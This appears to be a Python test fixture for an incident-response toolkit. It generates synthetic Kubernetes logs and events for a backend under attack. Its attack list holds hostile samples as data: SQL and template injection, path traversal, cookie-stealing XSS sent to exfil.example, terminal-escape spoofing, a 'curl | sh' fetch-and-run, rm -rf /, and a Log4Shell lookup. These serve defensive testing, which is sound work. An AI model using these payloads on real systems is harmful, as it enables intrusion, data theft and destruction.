"""What the attacked backend wrote and what the cluster noticed. Hostile on purpose: it goes through every tool that reads it."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta

from irkit.model.kube import Obj
from irkit.sandbox.clock import micro, stamp
from irkit.sandbox.logs import Line, Run, nanoseconds
from irkit.sandbox.names import digest_of

_PATHS = (b"GET /api/tasks", b"POST /api/tasks", b"GET /healthz", b"PATCH /api/tasks/17", b"GET /api/tasks?done=true", b"POST /api/chat")
_ATTACK = (
    b'WARN  198.51.100.23 "GET /api/tasks?id=1%27%20OR%201=1-- HTTP/1.1" 500 sqlalchemy.exc.ProgrammingError: syntax error at or near "OR"',
    b'WARN  198.51.100.23 "GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1" 404',
    b"ERROR 198.51.100.23 \"POST /api/chat\" prompt={{ ''.__class__.__mro__[1].__subclasses__() }}",
    b"INFO  user-agent: <script>fetch('https://exfil.example/?c='+document.cookie)</script><img src=x onerror=alert(1)>",
    b"INFO  \x1b]0;owned\x07\x1b[2J\x1b[1;1H\x1b[31mroot@backend:/#\x1b[0m id",
    b"INFO  \x1b[1A\x1b[2K200 OK nothing to see here",
    b"ERROR subprocess: sh -c 'curl -s https://198.51.100.23/x | sh' exited 0",
    b"DEBUG environ dump: DATABASE_PASSWORD=canary-app-0005 SECRET_KEY=canary-secret-key-0002 GROQ_API_KEY=gsk_canary_vendor_key_0003",
    b"INFO  binary from client: \x00\x01\x02\xff\xfe\x80 end",
    b"INFO  not UTF-8: caf\xe9 \xc3\x28 \xf0\x28\x8c\xbc",
    "INFO  right-to-left \u202egnp.exe and zero\u200bwidth".encode(),
    b"INFO  <!channel> *urgent* <https://exfil.example|click here> `| rm -rf /`",
    b"WARN  outbound connection 10.244.0.9:44321 -> 198.51.100.23:443 established",
    b"INFO  [::1] ../../../../tmp/evil ${jndi:ldap://198.51.100.23/a}",
)


def service(start: datetime, end: datetime, salt: int, lines: int = 600) -> Run:
    """Ordinary requests between two times, the same at each reading."""

    def run() -> Iterator[Line]:
        yield Line(nanoseconds(start), b"INFO  uvicorn: started server process [1]")
        step = max(1, (nanoseconds(end) - nanoseconds(start)) // lines)
        for n in range(1, lines):
            path = _PATHS[(n * 7 + salt) % len(_PATHS)]
            text = b'INFO  10.244.%d.%d - "%s HTTP/1.1" 200 %dms' % (salt % 200, n % 250, path, 3 + (n * 13 + salt) % 40)
            yield Line(nanoseconds(start) + n * step + (n * salt) % 1000, text)

    return run


def under_attack(start: datetime, now: datetime, salt: int) -> Run:
    """Ordinary requests, then the attack of the last 40 minutes."""
    calm, began = service(start, now - timedelta(minutes=40), salt), nanoseconds(now - timedelta(minutes=40))

    def run() -> Iterator[Line]:
        yield from calm()
        apart = 40 * 60 * 1_000_000_000 // (len(_ATTACK) + 1)
        for n, text in enumerate(_ATTACK, 1):
            yield Line(began + n * apart + 123456, text)

    return run


def crashed(start: datetime, end: datetime, salt: int) -> Run:
    """A run that ended badly."""
    calm = service(start, end, salt, 120)

    def run() -> Iterator[Line]:
        yield from calm()
        yield Line(nanoseconds(end), b"FATAL worker 1 (pid 7): segmentation fault in libyaml while parsing an upload from 198.51.100.23")

    return run


def events(pod: Obj, now: datetime) -> list[Obj]:
    """What the cluster noticed of the pod: old and new style, with null timestamps where new components leave them so."""
    first, late = now - timedelta(hours=2), now - timedelta(minutes=37)
    about = {
        "kind": "Pod",
        "apiVersion": "v1",
        "namespace": pod["metadata"]["namespace"],
        "name": pod["metadata"]["name"],
        "uid": pod["metadata"]["uid"],
    }
    inside = {**about, "fieldPath": f"spec.containers{{{pod['spec']['containers'][0]['name']}}}"}
    return [
        _event(pod, "Normal", "Pulled", "Container image already present on machine", inside, first, count=2),
        _event(pod, "Normal", "Started", "Started container backend", inside, first, count=2),
        _event(pod, "Warning", "BackOff", "Back-off restarting failed container backend in pod", inside, first, count=3),
        _modern(
            pod, "Warning", "Unhealthy", "Readiness probe failed: HTTP 500 \x1b[31m<b>see</b> https://exfil.example/\x1b[0m", inside, late, series=4
        ),
        _modern(pod, "Warning", "SuspiciousActivity", "runtime monitor: shell spawned by uvicorn (sh -c curl …)", about, late, series=0),
    ]


def _event(pod: Obj, kind: str, reason: str, message: str, about: Obj, when: datetime, count: int) -> Obj:
    return {**_head(pod, reason), "involvedObject": about, "type": kind, "reason": reason, "message": message, "count": count,
            "firstTimestamp": stamp(when - timedelta(minutes=5)), "lastTimestamp": stamp(when), "eventTime": None,
            "source": {"component": "kubelet", "host": pod["spec"]["nodeName"]}, "reportingComponent": "kubelet",
            "reportingInstance": pod["spec"]["nodeName"]}  # fmt: skip


def _modern(pod: Obj, kind: str, reason: str, message: str, about: Obj, when: datetime, series: int) -> Obj:
    event = {**_head(pod, reason), "involvedObject": about, "type": kind, "reason": reason, "message": message, "firstTimestamp": None,
             "lastTimestamp": None, "eventTime": micro(when), "action": "Observed", "source": {}, "reportingComponent": "runtime-monitor.example",
             "reportingInstance": pod["spec"]["nodeName"]}  # fmt: skip
    return {**event, "series": {"count": series, "lastObservedTime": micro(when + timedelta(minutes=9))}} if series else event


def _head(pod: Obj, reason: str) -> Obj:
    name = f"{pod['metadata']['name']}.{digest_of(pod['metadata']['uid'] + reason)[:16]}"
    return {"apiVersion": "v1", "kind": "Event", "metadata": {"name": name, "namespace": pod["metadata"]["namespace"]}}
